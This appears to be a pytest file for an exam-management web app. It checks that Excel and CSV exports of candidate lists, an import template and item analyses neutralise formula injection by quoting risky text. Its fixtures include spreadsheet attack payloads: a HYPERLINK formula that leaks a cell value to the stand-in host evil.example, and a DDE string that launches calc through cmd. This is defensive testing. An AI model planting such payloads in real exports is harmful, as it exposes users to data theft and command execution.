"""Exports never carry live formulas (OWASP "CSV Injection"): text starting with ``=``, ``+``,
``-``, ``@``, tab or CR is prefixed with ``'`` and stored as text; numbers stay numbers.
Each export is read back: the candidates' lists and the import template (Excel), the item
analysis (CSV)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from exam.accounts.models import Role
from exam.candidates.screening import decide_eligibility
from exam.core.spreadsheets import append_row, csv_writer, safe_cell, write_cell
from exam.extensions import db
from exam.rounds.models import RoundStatus
from tests.conftest import login
from tests.exams.test_invigilation_and_after import _sit_all, room  # noqa: F401 (fixture)
from tests.factories import T0

ATTACK = '=HYPERLINK("http://evil.example/?leak="&C6,"Xem hồ sơ")'
DANGEROUS = [ATTACK, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "\t=1+1", "\r=1+1"]


def _read_xlsx(data: bytes):
    return load_workbook(io.BytesIO(data))


# --- the rule ----------------------------------------------------------------------------------


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_starting_with_a_formula_trigger_gets_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    ["Nguyễn Văn An", "", "a=b", "1-2", None, 5, -5, -0.25, Decimal("-1.50"), 0, True],
)
def test_other_text_and_every_number_are_left_alone(value):
    assert safe_cell(value) is value


def test_the_csv_writer_escapes_text_and_keeps_negative_numbers_as_numbers():
    out = io.StringIO()
    csv_writer(out).writerows([[ATTACK, -3, Decimal("-0.125"), "-0.125", "ok"]])
    [row] = list(csv.reader(io.StringIO(out.getvalue())))
    assert row == ["'" + ATTACK, "-3", "-0.125", "'-0.125", "ok"]


def test_excel_cells_are_escaped_text_and_numbers_stay_numbers():
    book = Workbook()
    sheet = book.active
    append_row(sheet, ["title"])
    append_row(sheet, [])
    append_row(sheet, [ATTACK, -7, 8.5, "#N/A", "tên\x01lạ", None])
    write_cell(sheet, 5, 1, "@SUM(A1)")
    saved = io.BytesIO()
    book.save(saved)
    read = _read_xlsx(saved.getvalue()).active
    assert read["A1"].value == "title"
    assert read["A2"].value is None
    assert (read["A3"].value, read["A3"].data_type) == ("'" + ATTACK, "s")
    assert (read["B3"].value, read["B3"].data_type) == (-7, "n")
    assert (read["C3"].value, read["C3"].data_type) == (8.5, "n")
    assert (read["D3"].value, read["D3"].data_type) == ("#N/A", "s")  # not an error cell
    assert read["E3"].value == "tênlạ"  # a character .xlsx cannot hold, dropped
    assert (read["A5"].value, read["A5"].data_type) == ("'@SUM(A1)", "s")


# --- the candidates' lists (Excel) -------------------------------------------------------------


@pytest.mark.parametrize("text", DANGEROUS)
def test_the_candidate_lists_escape_names_units_and_reasons(app, make, text):
    board = make.user(Role.BOARD_ADMIN)
    round_ = make.round(board=board)
    position = round_.positions[0]
    chosen = make.application(position, make.user(Role.CANDIDATE, name=text), eligible=None)
    refused = make.application(position, make.user(Role.CANDIDATE, name=text), eligible=None)
    chosen.current_unit = refused.current_unit = text
    make.stage(round_, RoundStatus.SCREENING)
    decide_eligibility(chosen, eligible=True, reason="", actor=board, at=T0)
    decide_eligibility(refused, eligible=False, reason=text, actor=board, at=T0)
    db.session.commit()
    client = login(app.test_client(), board)
    # as stored: the account and the decision strip a leading tab or CR
    name, reason = chosen.candidate.full_name, refused.decision_reason
    assert reason.startswith(("=", "+", "-", "@"))
    for which, expected in (
        ("eligible", {"B": name, "G": text}),
        ("not-eligible", {"B": name, "F": text, "G": reason}),
    ):
        response = client.get(f"/rounds/{round_.id}/applications/{which}.xlsx")
        assert response.status_code == 200
        sheet = _read_xlsx(response.data).active
        for column, value in expected.items():
            cell = sheet[f"{column}5"]
            # (depending on the XML parser, a CR may be read back as a line feed)
            read = (cell.value.replace("\r", "\n"), cell.data_type)
            assert read == (("'" + value).replace("\r", "\n"), "s"), (which, column)
        number = sheet["A5"]
        assert (number.value, number.data_type) == (1, "n")  # STT stays a number


def test_the_import_template_escapes_the_positions(app, make):
    board = make.user(Role.BOARD_ADMIN)
    round_ = make.round(board=board)
    round_.positions[0].title = ATTACK
    round_.positions[0].unit_name = "@SUM(1+1)"
    db.session.commit()
    response = login(app.test_client(), board).get(
        f"/rounds/{round_.id}/applications/import-template.xlsx"
    )
    positions = _read_xlsx(response.data)["Vị trí"]
    assert (positions["B2"].value, positions["B2"].data_type) == ("'" + ATTACK, "s")
    assert positions["C2"].value == "'@SUM(1+1)"
    assert (positions["D2"].value, positions["D2"].data_type) == (1, "n")


# --- the item analysis (CSV) -------------------------------------------------------------------


def test_the_item_analysis_csv_escapes_question_keys(app, make, room):  # noqa: F811
    _sit_all(room)
    attempt = room.attempt(0)
    questions = [item.version.question for item in attempt.questions]
    for question, text in zip(questions, DANGEROUS, strict=False):
        question.key = text
    db.session.commit()
    client = login(app.test_client(), make.user(Role.SUPERVISOR))
    download = client.get(f"/tests/{room.test_id}/analysis.csv")
    rows = list(csv.reader(io.StringIO(download.get_data(as_text=True).lstrip("\ufeff"))))
    items = {row[0]: row for row in rows[1:] if len(row) > 2}
    expected = {"'" + text for text in DANGEROUS[: len(questions)]}
    assert expected <= set(items)
    for row in items.values():
        Decimal(row[6])  # facility: a plain number, no quote
        assert not row[6].startswith("'")
